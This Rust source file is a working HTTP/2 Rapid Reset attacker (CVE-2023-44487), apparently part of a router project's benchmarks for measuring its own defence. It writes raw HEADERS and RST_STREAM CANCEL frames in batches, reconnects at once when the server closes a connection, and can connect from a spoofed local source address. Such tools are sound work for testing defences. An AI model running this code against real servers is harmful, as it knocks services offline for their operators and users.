//! A Rapid Reset attacker (CVE-2023-44487) for measuring the router's defence: it opens
//! HTTP/2 connections by prior knowledge and on each sends a request's `HEADERS` and at
//! once its `RST_STREAM` (`CANCEL`), as fast as it can, never reading a response. When
//! the server closes a connection (a `GOAWAY`, an error, a refused connect) it opens
//! another at once, as a real attacker does. At the end it prints what it managed:
//!
//! ```text
//! rapid-reset: seconds=10.00 streams=123456 connections=789 refused=0
//! ```
//!
//! Usage: `rapid_reset HOST:PORT SECONDS [CONNECTIONS [PATH]]` (4 connections at once
//! and `/f.txt` unless given); `RAPID_RESET_FROM=IP` connects from that local address
//! (127.0.0.2, say: an attacker has an address of its own, not the normal client's).
//! Used by `bench/rapid-reset.sh`.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What all connections together managed.
#[derive(Default)]
struct Tally {
    /// Streams opened and reset.
    streams: AtomicU64,
    /// Connections that completed the HTTP/2 handshake.
    connections: AtomicU64,
    /// Connects or handshakes that failed.
    refused: AtomicU64,
}

fn usage() -> ! {
    eprintln!("usage: rapid_reset HOST:PORT SECONDS [CONNECTIONS [PATH]]");
    std::process::exit(2)
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let addr: SocketAddr = args.first().and_then(|a| a.parse().ok()).unwrap_or_else(|| usage());
    let seconds: f64 = args.get(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| usage());
    let connections: usize = match args.get(2) {
        Some(c) => c.parse().unwrap_or_else(|_| usage()),
        None => 4,
    };
    let path = args.get(3).cloned().unwrap_or_else(|| "/f.txt".to_owned());
    let uri: http::Uri = format!("http://{addr}{path}").parse().unwrap_or_else(|_| usage());

    let start = Instant::now();
    let deadline = start + Duration::from_secs_f64(seconds);
    let tally = Arc::new(Tally::default());
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..connections {
        let (tally, uri) = (tally.clone(), uri.clone());
        tasks.spawn(async move {
            while Instant::now() < deadline {
                attack_one_connection(addr, &uri, &tally).await;
            }
        });
    }
    let _ = tokio::time::timeout_at(deadline.into(), async {
        while tasks.join_next().await.is_some() {}
    })
    .await;
    let elapsed = start.elapsed().as_secs_f64();
    println!(
        "rapid-reset: seconds={elapsed:.2} streams={} connections={} refused={}",
        tally.streams.load(Ordering::Relaxed),
        tally.connections.load(Ordering::Relaxed),
        tally.refused.load(Ordering::Relaxed),
    );
}

/// A connection to `addr`, from `RAPID_RESET_FROM` when set.
async fn connect(addr: SocketAddr) -> std::io::Result<TcpStream> {
    let Some(from) = std::env::var("RAPID_RESET_FROM").ok() else {
        return TcpStream::connect(addr).await;
    };
    let from: std::net::IpAddr = from.parse().map_err(std::io::Error::other)?;
    let socket = match from {
        std::net::IpAddr::V4(_) => tokio::net::TcpSocket::new_v4()?,
        std::net::IpAddr::V6(_) => tokio::net::TcpSocket::new_v6()?,
    };
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(addr).await
}

/// One connection: open and reset streams on it until the server ends it. The frames are
/// written raw (an HTTP/2 client library would drop a stream's queued `HEADERS` when it is
/// reset before they are sent, so the server would never see the stream).
async fn attack_one_connection(addr: SocketAddr, uri: &http::Uri, tally: &Tally) {
    let Ok(tcp) = connect(addr).await else {
        tally.refused.fetch_add(1, Ordering::Relaxed);
        tokio::task::yield_now().await;
        return;
    };
    let _ = tcp.set_nodelay(true);
    let (mut reader, mut writer) = tcp.into_split();
    let mut start = PREFACE.to_vec();
    start.extend_from_slice(&frame_header(0, SETTINGS, 0, 0));
    if writer.write_all(&start).await.is_err() {
        tally.refused.fetch_add(1, Ordering::Relaxed);
        return;
    }
    tally.connections.fetch_add(1, Ordering::Relaxed);
    // The reader discards what the server sends, asks for a SETTINGS ack, and says when
    // the server has closed the connection.
    let ack_due = Arc::new(AtomicBool::new(false));
    let closed = Arc::new(AtomicBool::new(false));
    let reading = tokio::spawn({
        let (ack_due, closed) = (ack_due.clone(), closed.clone());
        async move {
            let mut buf = vec![0u8; 64 * 1024];
            let mut scan = FrameScan::default();
            loop {
                match reader.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => {
                        if scan.saw_settings(&buf[..n]) {
                            ack_due.store(true, Ordering::Relaxed);
                        }
                    }
                }
            }
            closed.store(true, Ordering::Relaxed);
        }
    });
    let block = header_block(uri);
    let mut stream_id: u32 = 1;
    let mut batch = Vec::with_capacity(BATCH * (block.len() + 40));
    while !closed.load(Ordering::Relaxed) && stream_id < (1 << 30) {
        batch.clear();
        if ack_due.swap(false, Ordering::Relaxed) {
            batch.extend_from_slice(&frame_header(0, SETTINGS, ACK, 0));
        }
        for _ in 0..BATCH {
            batch.extend_from_slice(&frame_header(block.len(), HEADERS, END_HEADERS, stream_id));
            batch.extend_from_slice(&block);
            batch.extend_from_slice(&frame_header(4, RST_STREAM, 0, stream_id));
            batch.extend_from_slice(&CANCEL.to_be_bytes());
            stream_id += 2;
        }
        if writer.write_all(&batch).await.is_err() {
            break;
        }
        tally.streams.fetch_add(BATCH as u64, Ordering::Relaxed);
    }
    reading.abort();
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
const CANCEL: u32 = 0x8;
/// Streams opened and reset per write.
const BATCH: usize = 32;

fn frame_header(len: usize, kind: u8, flags: u8, stream_id: u32) -> [u8; 9] {
    let l = (len as u32).to_be_bytes();
    let s = stream_id.to_be_bytes();
    [l[1], l[2], l[3], kind, flags, s[0], s[1], s[2], s[3]]
}

/// A `GET` of `uri` in HPACK: `:method GET`, `:scheme http` from the static table,
/// `:path` and `:authority` as literals without indexing (no Huffman coding).
fn header_block(uri: &http::Uri) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (name_index, value) in [(4u8, uri.path()), (1, uri.authority().map_or("", |a| a.as_str()))]
    {
        block.push(name_index);
        block.push(value.len() as u8);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// Follows the frame headers in what the server sends, to see its `SETTINGS`.
#[derive(Default)]
struct FrameScan {
    header: Vec<u8>,
    skip: usize,
}

impl FrameScan {
    /// Whether `bytes` held a `SETTINGS` frame that wants an ack.
    fn saw_settings(&mut self, mut bytes: &[u8]) -> bool {
        let mut saw = false;
        while !bytes.is_empty() {
            if self.skip > 0 {
                let n = self.skip.min(bytes.len());
                self.skip -= n;
                bytes = &bytes[n..];
                continue;
            }
            let n = (9 - self.header.len()).min(bytes.len());
            self.header.extend_from_slice(&bytes[..n]);
            bytes = &bytes[n..];
            if self.header.len() == 9 {
                let h = &self.header;
                self.skip = usize::from(h[0]) << 16 | usize::from(h[1]) << 8 | usize::from(h[2]);
                saw |= h[3] == SETTINGS && h[4] & ACK == 0;
                self.header.clear();
            }
        }
        saw
    }
}
